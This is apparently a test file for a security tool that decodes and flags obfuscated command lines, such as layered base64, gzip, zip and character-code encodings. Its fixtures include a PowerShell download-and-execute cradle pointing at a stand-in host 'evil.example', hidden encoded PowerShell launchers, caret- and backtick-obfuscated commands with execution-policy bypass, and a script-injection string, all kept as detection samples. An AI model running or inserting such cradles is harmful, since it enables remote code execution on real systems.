/**
 * Decoding: the demo case's planted encoded PowerShell, nested layers built here with
 * node:zlib and a hand-made zip, char codes, hex, URL-encoding, binary payloads, garbage.
 */
import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import { createHash } from "node:crypto";
import { deflateRawSync, deflateSync, gzipSync } from "node:zlib";
import { join } from "node:path";
import { pl } from "../../src/polars.ts";
import { loadTable } from "../../src/data/load.ts";
import { openLocalProvider } from "../../src/providers/local/local_provider.ts";
import {
  decode,
  decodeFrame,
  obfuscationFrame,
  obfuscationIndicators,
} from "../../src/enrich/decode.ts";
import { ANSWER_KEY } from "../../scripts/demo_case/_attack.ts";
import { ADMIN_ENCODED_SCRIPT } from "../../scripts/demo_case/_catalog.ts";
import { hasShared, REALDATA_DIR } from "../_helpers.ts";
import { permutation, sha } from "../_order.ts";

const ps = (script: string) => Buffer.from(script, "utf16le").toString("base64");
const kinds = (text: string) => decode(text).layers.map((l) => l.kind);

Deno.test("decode() turns the demo case's encoded PowerShell into the planted cradle", () => {
  const { commandLine, encoded, decoded } = ANSWER_KEY.encodedPowerShell;
  const result = decode(commandLine);
  assert.equal(result.status, "decoded");
  assert.deepEqual(result.layers.map((l) => l.kind), ["powershell-encoded"]);
  assert.equal(result.decoded, commandLine.replace(encoded, decoded));
  // The bare argument decodes to exactly the cradle (UTF-16LE found by itself).
  const bare = decode(encoded);
  assert.equal(bare.decoded, decoded);
  assert.deepEqual(bare.layers.map((l) => l.kind), ["base64", "utf16le"]);
});

Deno.test("decodeFrame() decodes the demo case's SecurityEvent and DeviceProcessEvents", async () => {
  const provider = await openLocalProvider();
  for (
    const [table, column] of [
      ["SecurityEvent", "CommandLine"],
      ["DeviceProcessEvents", "ProcessCommandLine"],
    ]
  ) {
    const frame = (await provider.query(`${table} | where ${column} has 'EncodedCommand'`)).frame;
    const out = decodeFrame(frame, { column });
    const decoded = out.getColumn(`${column}_decoded`).toArray() as string[];
    assert.ok(decoded.some((d) => d.includes(ANSWER_KEY.encodedPowerShell.decoded)), table);
    // The admin's habit is decoded too, and nothing is left undecoded.
    assert.ok(decoded.some((d) => d.includes(ADMIN_ENCODED_SCRIPT)), table);
    const statuses = new Set(out.getColumn(`${column}_decode_status`).toArray());
    assert.deepEqual([...statuses], ["decoded"], table);
  }
});

Deno.test("decode() peels nested base64, gzip, deflate, zlib and zip", () => {
  const inner = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/p')";
  const gz = gzipSync(Buffer.from(inner)).toString("base64");
  const stage2 = `$s=[Convert]::FromBase64String('${gz}');` +
    "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,0))).ReadToEnd()";
  const result = decode(`powershell -nop -w hidden -e ${ps(stage2)}`);
  assert.deepEqual(result.layers.map((l) => l.kind), ["powershell-encoded", "base64", "gzip"]);
  assert.ok(result.decoded.includes(`FromBase64String('${inner}')`));

  const raw = deflateRawSync(Buffer.from(inner)).toString("base64");
  assert.deepEqual(
    kinds(
      `New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String("${raw}"),0)`,
    ),
    ["base64", "deflate"],
  );
  assert.deepEqual(kinds(deflateSync(Buffer.from(inner)).toString("base64")), ["base64", "zlib"]);

  const zip = makeZip([
    { name: "run.ps1", data: Buffer.from(inner), deflate: true },
    { name: "tool.exe", data: Buffer.from("MZ\x90\x00binary\x00\x01\x02"), deflate: false },
  ]);
  const z = decode(zip.toString("base64"));
  assert.deepEqual(z.layers.map((l) => `${l.kind}${l.detail ? ":" + l.detail : ""}`), [
    "base64",
    "zip:run.ps1",
    "zip:tool.exe",
  ]);
  assert.ok(z.decoded.includes(`[zip entry run.ps1]\n${inner}`));
  assert.equal(z.payloads.length, 1);
  assert.equal(z.payloads[0].fileType, "pe (MZ executable)");
  assert.deepEqual(z.payloads[0].path, ["base64", "zip"]);
});

Deno.test("decode() reports binary payloads with hashes and file type", () => {
  const pe = Buffer.concat([Buffer.from([0x4d, 0x5a, 0x90, 0, 3, 0]), Buffer.alloc(58, 0xff)]);
  const result = decode(`certutil payload ${pe.toString("base64")}`);
  assert.equal(result.payloads.length, 1);
  const [payload] = result.payloads;
  assert.equal(payload.fileType, "pe (MZ executable)");
  assert.equal(payload.size, 64);
  assert.equal(payload.sha256, createHash("sha256").update(pe).digest("hex"));
  assert.equal(payload.md5, createHash("md5").update(pe).digest("hex"));
  assert.ok(
    result.decoded.includes(`[binary pe (MZ executable), 64 bytes, sha256 ${payload.sha256}]`),
  );
  // Shellcode and ELF by magic bytes, through hex.
  assert.equal(
    decode("fce8820000006089e531c0648b5030").payloads[0].fileType.startsWith("shellcode"),
    true,
  );
  assert.equal(decode("7f454c4602010100000000000000000002003e00").payloads[0].fileType, "elf");
});

Deno.test("decode() handles char codes, hex, \\x escapes and URL-encoding", () => {
  assert.equal(decode("iex ([char]72+[char]105+[char]0x21)").decoded, "iex ('Hi!')");
  assert.equal(decode("[char[]](104,105) -join ''").decoded, "'hi'");
  assert.equal(decode("eval(String.fromCharCode(97,108,101,114,116))").decoded, "eval('alert')");
  assert.equal(decode("x = Chr(87) & Chr(83) & Chr(72)").decoded, "x = 'WSH'");
  assert.equal(decode("48656c6c6f2c20776f726c6421").decoded, "Hello, world!");
  assert.equal(decode("\\x63\\x6d\\x64\\x2e\\x65\\x78\\x65").decoded, "cmd.exe");
  const url = decode("GET /a?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
  assert.equal(url.decoded, "GET /a?q=<script>alert(1)</script>");
  assert.ok(url.layers.every((l) => l.kind === "url"));
});

Deno.test("decode() leaves plain text, hashes, garbage and huge values alone", () => {
  for (
    const text of [
      "C:\\Windows\\system32\\svchost.exe -k netsvcs",
      "implant.exe 81ed03caf6901e444c72ac67d192fb9c",
      "ThisIsAVeryLongIdentifierNameThatLooksLikeBase64",
      "%%1936 and 100% sure",
      "",
    ]
  ) {
    const r = decode(text);
    assert.equal(r.status, "unchanged", text);
    assert.equal(r.decoded, text);
  }
  // Binary garbage behind an explicit -EncodedCommand is not decoded as a script.
  const garbage = Buffer.from(Array.from({ length: 48 }, (_, i) => (i * 73 + 11) % 256));
  const bad = decode(`powershell -enc ${garbage.toString("base64")}`);
  assert.equal(bad.status, "binary");
  assert.match(bad.message!, /48 bytes of no known file type/);
  assert.equal(bad.payloads[0].sha256, createHash("sha256").update(garbage).digest("hex"));
  const huge = decode("A".repeat(1000), { maxLength: 100 });
  assert.equal(huge.status, "too-long");
  assert.match(huge.message!, /raise maxLength/);
  // A decompression bomb stops at maxOutputBytes rather than exhausting memory.
  const bomb = gzipSync(Buffer.alloc(5_000_000, 0x41)).toString("base64");
  const bombed = decode(bomb, { maxOutputBytes: 1000 });
  assert.ok(bombed.decoded.length <= 5_000_000);
});

Deno.test("decode() depth limit bounds self-similar nesting", () => {
  let text = "final payload text";
  for (let i = 0; i < 6; i++) text = Buffer.from(text).toString("base64");
  assert.equal(decode(text).decoded, "final payload text");
  assert.equal(decode(text, { maxDepth: 2 }).layers.length, 2);
});

Deno.test("obfuscationIndicators() flags the realdata tricks", () => {
  assert.deepEqual(
    obfuscationIndicators(`cmd /c ".\\pOWErS^H^ElL^.eX^e^ -^ExEc^Ut^IoNpOliCy BYpa^sS"`).indicators,
    ["caret-insertion", "random-case"],
  );
  assert.deepEqual(
    obfuscationIndicators("(n`EW-obJ`E`cT N`et`.W`eb`C`li`en`t).DownloadFile('x')").indicators,
    ["tick-insertion", "random-case"],
  );
  assert.deepEqual(
    obfuscationIndicators(`IEX (('ht'+("{2}{0}{1}"-f ':/','/paste','tp')+'bin/'+'raw/'))`)
      .indicators,
    ["string-concatenation", "format-reordering"],
  );
  assert.deepEqual(
    obfuscationIndicators("C:\\Windows\\System32\\svchost.exe -k netsvcs").indicators,
    [],
  );
  const encoded = obfuscationIndicators(ANSWER_KEY.encodedPowerShell.commandLine);
  assert.deepEqual(encoded.indicators, ["encoded-command", "long-token"]);
  assert.ok(
    obfuscationIndicators("x".repeat(10) + " " + "ab".repeat(150)).indicators.includes(
      "long-token",
    ),
  );
});

// Outside CI a missing ../shared is reported as ignored (under CI hasShared() throws).
Deno.test({
  name: "obfuscationFrame() and decodeFrame() on the real command lines of processes_on_host.csv",
  ignore: !(await hasShared()),
  fn: async () => {
    const { frame } = await loadTable(join(REALDATA_DIR, "processes_on_host.csv"));
    const flagged = obfuscationFrame(frame, { column: "CommandLine" })
      .filter(pl.col("CommandLine_obfuscation").neq(pl.lit("")));
    const all = (flagged.getColumn("CommandLine_obfuscation").toArray() as string[]).join(",");
    for (
      const i of ["caret-insertion", "tick-insertion", "string-concatenation", "encoded-command"]
    ) {
      assert.ok(all.includes(i), i);
    }
    // Decoding the realdata's -enc row finds the script.
    const dec = decodeFrame(frame, { column: "CommandLine" });
    const texts = dec.getColumn("CommandLine_decoded").toArray() as string[];
    assert.ok(texts.includes(".\\powershell  -enc $t = 'dir';\r\n& ('Invoke'+'-Expression') $t"));
  },
});

/** A zip archive with local file headers (and a central directory), built by hand. */
function makeZip(files: Array<{ name: string; data: Buffer; deflate: boolean }>): Buffer {
  const parts: Buffer[] = [];
  for (const f of files) {
    const body = f.deflate ? deflateRawSync(f.data) : f.data;
    const header = Buffer.alloc(30);
    header.writeUInt32LE(0x04034b50, 0);
    header.writeUInt16LE(20, 4);
    header.writeUInt16LE(f.deflate ? 8 : 0, 8);
    header.writeUInt32LE(body.length, 18);
    header.writeUInt32LE(f.data.length, 22);
    header.writeUInt16LE(Buffer.byteLength(f.name), 26);
    parts.push(header, Buffer.from(f.name), body);
  }
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  parts.push(end);
  return Buffer.concat(parts);
}

Deno.test("obfuscationFrame() on the demo case flags the encoded PowerShell, not the benign noise", async () => {
  const provider = await openLocalProvider();
  const processes = (await provider.table("DeviceProcessEvents")).frame;
  const flagged = obfuscationFrame(processes, { column: "ProcessCommandLine" })
    .filter(pl.col("ProcessCommandLine_obfuscation").neq(pl.lit("")));
  const lines = flagged.getColumn("ProcessCommandLine").toArray() as string[];
  assert.ok(lines.includes(ANSWER_KEY.encodedPowerShell.commandLine));
  // Everything flagged is an -EncodedCommand (the attacker's and the admins' habits).
  assert.ok(lines.every((l) => l.includes("-EncodedCommand")), "only encoded commands");
});

Deno.test("decodeFrame() and obfuscationFrame() keep the input's rows in their order", async () => {
  const provider = await openLocalProvider();
  const events = (await provider.query(
    "SecurityEvent | where EventID == 4688 | project CommandLine | take 5000",
  )).frame.withRowIndex("row");
  const encoded = ANSWER_KEY.encodedPowerShell.commandLine;
  const input = pl.concat([
    events.select(pl.col("row").cast(pl.Int64), "CommandLine"),
    pl.DataFrame({ row: [5000, 5001, 5002], CommandLine: [encoded, null, encoded] })
      .withColumn(pl.col("row").cast(pl.Int64)),
  ]);
  const decoded = decodeFrame(input, { column: "CommandLine" });
  const flagged = obfuscationFrame(input, { column: "CommandLine" });
  for (const out of [decoded, flagged]) {
    assert.equal(sha(out.select("row", "CommandLine")), sha(input), "the input, unchanged");
  }
  // Each row's added cells are its own value's, decoded here one by one.
  const texts = input.getColumn("CommandLine").toArray() as (string | null)[];
  const outText = decoded.getColumn("CommandLine_decoded").toArray();
  const outStatus = decoded.getColumn("CommandLine_decode_status").toArray();
  const outFlags = flagged.getColumn("CommandLine_obfuscation").toArray();
  texts.forEach((t, i) => {
    assert.equal(outText[i], t === null ? null : decode(t).decoded, `row ${i}`);
    assert.equal(outStatus[i], t === null ? "null" : decode(t).status, `row ${i}`);
    assert.equal(
      outFlags[i],
      t === null ? null : obfuscationIndicators(t).indicators.join(","),
      `row ${i}`,
    );
  });
  // Rows in another order come back in that order, with the same cells.
  const order = permutation(input.height, 7);
  const shuffledInput = input.select(pl.all().gather(order));
  assert.equal(
    sha(decodeFrame(shuffledInput, { column: "CommandLine" })),
    sha(decoded.select(pl.all().gather(order))),
  );
  assert.equal(
    sha(obfuscationFrame(shuffledInput, { column: "CommandLine" })),
    sha(flagged.select(pl.all().gather(order))),
  );
  assert.equal(sha(decodeFrame(input, { column: "CommandLine" })), sha(decoded), "a second run");
});
